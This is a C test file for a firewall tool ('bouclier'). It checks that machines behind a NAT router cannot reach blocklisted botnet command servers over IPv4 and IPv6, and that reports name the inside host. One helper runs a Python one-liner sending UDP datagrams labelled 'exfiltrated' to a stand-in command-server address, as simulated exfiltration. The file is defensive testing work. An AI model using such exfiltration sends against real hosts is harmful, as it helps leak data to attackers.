// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * Both directions: a machine of the town (a third namespace behind the
 * router, which masquerades with nftables) sends ICMP, UDP and TCP SYNs to
 * a listed command server: nothing arrives there, as counted by nftables on
 * the far side; unlisted destinations are reached; the report names the
 * inside machine, not the router's address.  IPv4 and IPv6.
 */
#include <jansson.h>
#include "lab.h"

#define LAN(cmd) "ip netns exec %s-lan " cmd

static void lan_up(void)
{
	lab_up();
	if (sh("command -v nft >/dev/null"))
		cr_skip_test("nft is not installed (Debian package nftables)");
	cr_assert_eq(sh("%s/tools/lab.sh lan %s", lab.src, lab.name), 0, "the LAN namespace");
	/* the far side counts what arrives, whatever the filter says */
	cr_assert_eq(sh("printf 'table inet far {\\n chain in {\\n  type filter hook input priority "
			"0;\\n  ip daddr 203.0.113.66 counter\\n  ip daddr 203.0.113.68 counter\\n  "
			"ip6 daddr 2001:db8:c2::66 counter\\n  ip6 daddr 2001:db8:c2::68 counter\\n }\\n"
			"}\\n' | ip netns exec %s-net nft -f -", lab.name), 0);
}

/* Packets that reached the far side for a destination. */
static long arrived(const char *dst)
{
	char out[8192], *p;

	sh_out(out, sizeof(out), "ip netns exec %s-net nft list chain inet far in", lab.name);
	p = strstr(out, dst);
	if (!p || !(p = strstr(p, "packets ")))
		return -1;
	return atol(p + 8);
}

/* ICMP (3 echo requests), UDP (5 datagrams) and a TCP connection attempt
 * from the inside machine; returns the ping replies. */
static int traffic(const char *dst)
{
	char out[4096];
	int v6 = strchr(dst, ':') != NULL;

	sh_out(out, sizeof(out), LAN("ping %s -n -q -c 3 -i 0.05 -W 1 %s 2>&1"), lab.name,
	       v6 ? "-6" : "-4", dst);
	sh(LAN("python3 -c \"import socket; s = socket.socket(socket.AF_INET%s, socket.SOCK_DGRAM)\n"
	       "for i in range(5): s.sendto(b'exfiltrated', ('%s', 53))\""), lab.name, v6 ? "6" : "",
	   dst);
	sh(LAN("python3 -c \"import socket; s = socket.socket(socket.AF_INET%s); s.settimeout(0.5)\n"
	       "try: s.connect(('%s', 443))\nexcept Exception: pass\""), lab.name, v6 ? "6" : "",
	   dst);
	return ping_received(out);
}

static void feeds(void)
{
	char out[8192], cmd[512];

	sh("mkdir -p %s && printf '203.0.113.66\\n2001:db8:c2::66\\n' > %s/c2.txt && "
	   "printf '203.0.113.67\\n' > %s/scan.txt", lab.state, lab.state, lab.state);
	snprintf(cmd, sizeof(cmd), "feed load feodo %s/c2.txt --category botnet-c2", lab.state);
	cr_assert_eq(bouclier(out, sizeof(out), cmd), 0, "%s", out);
	snprintf(cmd, sizeof(cmd), "feed load scan %s/scan.txt --category scanners", lab.state);
	cr_assert_eq(bouclier(out, sizeof(out), cmd), 0, "%s", out);
}

Test(outbound, the_town_cannot_reach_a_command_server, .init = lan_up, .fini = lab_down,
     .timeout = 120)
{
	char out[65536], conf[256];
	json_error_t jerr;
	json_t *j, *h;

	snprintf(conf, sizeof(conf), "%s/bouclier.conf", lab.state);
	sh("mkdir -p %s && printf '[general]\\ntown = Outville\\n' > %s", lab.state, conf);
	setenv("BOUCLIER_CONFIG", conf, 1);
	cr_assert_eq(bouclier(out, sizeof(out), "attach wan0"), 0, "%s", out);
	cr_assert_eq(bouclier(out, sizeof(out), "status"), 0, "%s", out);
	cr_expect(strstr(out, "the way out: filtered"), "%s", out);
	feeds();
	cr_assert_eq(bouclier(out, sizeof(out), "lookup 203.0.113.66"), 0, "%s", out);
	cr_expect(strstr(out, "dropped both ways, listed by feodo"), "botnet-c2 is both: %s", out);
	cr_assert_eq(bouclier(out, sizeof(out), "lookup 203.0.113.67"), 0, "%s", out);
	cr_expect(strstr(out, "dropped as a source (on the way in)"), "scanners is in: %s", out);

	cr_expect_eq(traffic("203.0.113.66"), 0, "no reply from a listed server");
	cr_expect_eq(arrived("203.0.113.66"), 0, "ICMP, UDP and TCP to a listed server never "
		     "arrive there");
	cr_expect_eq(traffic("2001:db8:c2::66"), 0);
	cr_expect_eq(arrived("2001:db8:c2::66"), 0, "nor over IPv6");
	cr_expect_eq(traffic("203.0.113.68"), 3, "an unlisted server answers");
	cr_expect_gt(arrived("203.0.113.68"), 8, "and everything reaches it");
	cr_expect_eq(traffic("2001:db8:c2::68"), 3);
	cr_expect_gt(arrived("2001:db8:c2::68"), 8);

	cr_assert_eq(bouclier(out, sizeof(out), "weather --json"), 0, "%s", out);
	j = json_loads(out, 0, &jerr);
	cr_assert_not_null(j, "%s", jerr.text);
	cr_expect_str_eq(json_string_value(json_object_get(j, "level")), "storm",
			 "an inside machine calling a command server is at least a storm");
	h = outbound_host(j, "10.10.0.23");
	cr_assert_not_null(h, "the inside machine is named behind the masquerade: %s", out);
	cr_expect_geq(json_integer_value(json_object_get(h, "attempts")), 9, "%s", out);
	cr_expect(json_is_true(json_object_get(h, "behind_nat")), "%s", out);
	cr_expect_str_eq(json_string_value(json_array_get(json_object_get(h, "feeds"), 0)), "feodo");
	cr_expect_str_eq(json_string_value(json_array_get(json_object_get(h, "destinations"), 0)),
			 "203.0.113.66");
	cr_expect_not_null(outbound_host(j, "2001:db8:10::23"), "IPv6 too: %s", out);
	cr_expect_null(outbound_host(j, "192.0.2.1"), "never the router's own address");
	json_decref(j);

	cr_assert_eq(bouclier(out, sizeof(out), "weather"), 0, "%s", out);
	cr_expect(strstr(out, "2 machines of the town tried to reach servers on a blocklist"),
		  "said first and plainly: %s", out);
	cr_expect(strstr(out, "10.10.0.23 ("), "%s", out);
	cr_assert_eq(bouclier(out, sizeof(out), "weather --lang fr"), 0, "%s", out);
	cr_expect(strstr(out, "machines de la commune ont tenté de joindre"), "%s", out);
	cr_assert_eq(bouclier(out, sizeof(out), "weather --format prom"), 0, "%s", out);
	cr_expect(strstr(out, "bouclier_outbound_host_attempts_today{town=\"Outville\","
			 "host=\"10.10.0.23\"}"), "%s", out);
	cr_assert_eq(bouclier(out, sizeof(out), "stats --json"), 0, "%s", out);

	/* the allowlist wins both ways */
	cr_assert_eq(bouclier(out, sizeof(out), "allow add 203.0.113.66"), 0, "%s", out);
	cr_expect_eq(traffic("203.0.113.66"), 3, "allowed: the server is reached and answers");
	unsetenv("BOUCLIER_CONFIG");
}

/* Kernels without TCX (before 6.6, Debian 12's own) get a clsact filter. */
Test(outbound, classic_tc_when_tcx_is_missing, .init = lan_up, .fini = lab_down,
     .timeout = 120)
{
	char out[16384];

	setenv("BOUCLIER_EGRESS", "tc", 1);
	cr_assert_eq(sh_out(out, sizeof(out), "nsenter --net=/run/netns/%s-wan env "
			    "BOUCLIER_PIN_DIR=%s BOUCLIER_STATE_DIR=%s BOUCLIER_EGRESS=tc %s attach "
			    "wan0 2>&1", lab.name, lab.pin, lab.state, lab.bin), 0, "%s", out);
	unsetenv("BOUCLIER_EGRESS");
	cr_assert_eq(bouclier(out, sizeof(out), "status"), 0, "%s", out);
	cr_expect(strstr(out, "the way out: filtered (TC egress, clsact)"), "%s", out);
	feeds();
	cr_expect_eq(traffic("203.0.113.66"), 0);
	cr_expect_eq(arrived("203.0.113.66"), 0, "nothing reaches the listed server");
	cr_expect_eq(traffic("203.0.113.68"), 3);
	cr_assert_eq(bouclier(out, sizeof(out), "detach wan0"), 0, "%s", out);
	cr_assert_eq(sh_out(out, sizeof(out), "ip netns exec %s-wan tc filter show dev wan0 egress",
			    lab.name), 0);
	cr_expect_null(strstr(out, "bouclier"), "detach removes the clsact filter: %s", out);
}
